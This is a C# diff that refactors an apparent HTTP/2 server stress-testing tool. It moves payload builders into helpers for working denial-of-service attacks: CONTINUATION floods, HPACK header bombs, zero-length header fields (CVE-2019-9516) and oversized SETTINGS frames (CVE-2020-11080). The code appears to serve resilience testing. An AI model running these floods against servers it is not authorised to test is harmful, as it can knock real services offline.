@@ -103,10 +103,7 @@ public static class Attacks
     // 16 KiB of new literal fields per frame, or with empty frames (counted all the same).
     private static Task ContinuationFlood(AttackContext ctx, bool withPayload) => Parallel(2, _ => Reconnecting(ctx, 2000, async c =>
     {
-        var fragment = new List<byte>();
-        for (var i = 0; withPayload && fragment.Count < 16000; i++)
-            RawHpack.Literal(fragment, $"x-flood-{i:d5}", new string('v', 100));
-        var payload = fragment.ToArray();
+        var payload = withPayload ? ContinuationFragment() : [];
         var batch = new FrameBatch().Headers(1, RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority), endStream: true, endHeaders: false);
         if (!await c.SendAsync(batch, ctx.Token)) return;
         for (var sent = 0; Going(ctx, c) && sent < 1_000_000;)
@@ -125,14 +122,8 @@ public static class Attacks
     // With valueLength 1 this is the header-count bomb: 16000 tiny fields.
     private static Task HpackBomb(AttackContext ctx, int valueLength) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
     {
-        var request = RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority);
-        var first = new List<byte>(request);
-        RawHpack.Incremental(first, "x", System.Text.Encoding.ASCII.GetBytes(new string('b', valueLength)));
-        var refs = new List<byte>(request);
-        while (refs.Count < 16000) RawHpack.Indexed(refs, 62);
-        var refsBlock = refs.ToArray();
-        first.AddRange(refsBlock.AsSpan(request.Length, 16000 - first.Count).ToArray());
-        var batch = new FrameBatch().Headers(1, first.ToArray(), endStream: true);
+        var (first, refsBlock) = BombBlocks(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority), valueLength);
+        var batch = new FrameBatch().Headers(1, first, endStream: true);
         if (!await c.SendAsync(batch, ctx.Token)) return;
         for (uint id = 3; Going(ctx, c) && id < 20001; id += 2)
         {
@@ -143,15 +134,43 @@ public static class Attacks
         await c.WaitClosedAsync(TimeSpan.FromMilliseconds(100));
     }));
 
+    /// <summary>The bomb's two blocks: the request, the table entry and references (first on a
+    /// connection), then the request and only references (every later stream); 16000 octets each.</summary>
+    internal static (byte[] First, byte[] Refs) BombBlocks(byte[] request, int valueLength)
+    {
+        var first = new List<byte>(request);
+        RawHpack.Incremental(first, "x", System.Text.Encoding.ASCII.GetBytes(new string('b', valueLength)));
+        var refs = new List<byte>(request);
+        while (refs.Count < 16000) RawHpack.Indexed(refs, 62);
+        var refsBlock = refs.ToArray();
+        first.AddRange(refsBlock.AsSpan(request.Length, 16000 - first.Count).ToArray());
+        return (first.ToArray(), refsBlock);
+    }
+
+    /// <summary>The request, then 5000 literal fields with incremental indexing, empty name, empty value.</summary>
+    internal static byte[] ZeroLengthBlock(byte[] request)
+    {
+        var block = new List<byte>(request);
+        for (var i = 0; i < 5000; i++) block.AddRange([0x40, 0x00, 0x00]);
+        return block.ToArray();
+    }
+
+    /// <summary>About 16000 octets of new literal fields (x-flood-NNNNN: 100 octets), no indexing.</summary>
+    internal static byte[] ContinuationFragment()
+    {
+        var fragment = new List<byte>();
+        for (var i = 0; fragment.Count < 16000; i++)
+            RawHpack.Literal(fragment, $"x-flood-{i:d5}", new string('v', 100));
+        return fragment.ToArray();
+    }
+
     // CVE-2019-9516: fields with an empty name and value, each with incremental indexing
     // (RFC 7541 §6.2.1, 32 octets of table each): a server that allocates per field and
     // keeps it leaks. An empty name is not a valid field name (RFC 9110 §5.1 token), so
     // the request is malformed (RFC 9113 §8.2.1).
     private static Task ZeroLengthHeaders(AttackContext ctx) => Parallel(2, _ => Reconnecting(ctx, 5000, async c =>
     {
-        var block = new List<byte>(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority));
-        for (var i = 0; i < 5000; i++) block.AddRange([0x40, 0x00, 0x00]);
-        var bytes = block.ToArray();
+        var bytes = ZeroLengthBlock(RawHpack.Request("GET", ctx.Paths.Small, ctx.Authority));
         var batch = new FrameBatch();
         for (uint id = 1; Going(ctx, c) && id < 20001; id += 2)
         {
@@ -178,9 +197,9 @@ public static class Attacks
         await c.DrainAsync(TimeSpan.FromMilliseconds(300));
     }, read: false));
 
-    // CVE-2020-11080: SETTINGS frames with thousands of entries (§6.5 puts no bound on their
-    // number; each may make the encoder resize its table). 2730 x 6 = 16380 octets.
-    private static Task SettingsManyEntries(AttackContext ctx) => Reconnecting(ctx, 5000, async c =>
+    /// <summary>2730 valid entries (16380 octets, one frame at the default SETTINGS_MAX_FRAME_SIZE),
+    /// cycling through every known identifier and one unknown (§6.5.2: ignored).</summary>
+    internal static (ushort Id, uint Value)[] ManySettings()
     {
         (ushort, uint)[] cycle =
         [
@@ -188,7 +207,14 @@ public static class Attacks
             (Wire.MaxConcurrentStreams, 100), (Wire.InitialWindowSize, 65535), (Wire.MaxFrameSize, 16384),
             (0x7777, 1),
         ];
-        var entries = Enumerable.Range(0, 2730).Select(i => cycle[i % cycle.Length]).ToArray();
+        return Enumerable.Range(0, 2730).Select(i => cycle[i % cycle.Length]).ToArray();
+    }
+
+    // CVE-2020-11080: SETTINGS frames with thousands of entries (§6.5 puts no bound on their
+    // number; each may make the encoder resize its table). 2730 x 6 = 16380 octets.
+    private static Task SettingsManyEntries(AttackContext ctx) => Reconnecting(ctx, 5000, async c =>
+    {
+        var entries = ManySettings();
         var batch = new FrameBatch();
         for (var sent = 0; Going(ctx, c) && sent < 100_000; sent += 4)
         {
